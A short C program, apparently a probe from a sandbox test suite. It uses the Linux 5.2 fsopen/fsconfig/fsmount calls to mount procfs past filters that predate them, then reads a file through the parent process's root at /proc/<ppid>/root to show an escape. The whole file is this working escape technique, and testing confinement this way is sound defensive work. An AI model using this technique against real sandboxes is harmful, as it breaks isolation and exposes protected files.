/* SPDX-License-Identifier: MIT */
/* The same by the mount calls of Linux 5.2, which filters written before do not know. */
#include <linux/mount.h>
#include <sys/syscall.h>

#include "attack.h"

int main(int argc, char **argv)
{
	char path[8192];
	int context = (int)syscall(SYS_fsopen, "proc", 0);
	if (context < 0)
		return refused("fsopen");
	if (syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
		return refused("fsconfig");
	int proc = (int)syscall(SYS_fsmount, context, 0, 0);
	snprintf(path, sizeof(path), "%d/root%s", (int)getppid(), argv[1]);
	return proc >= 0 && is_secret(openat(proc, path, O_RDONLY)) ? GOT_OUT : refused("open");
}
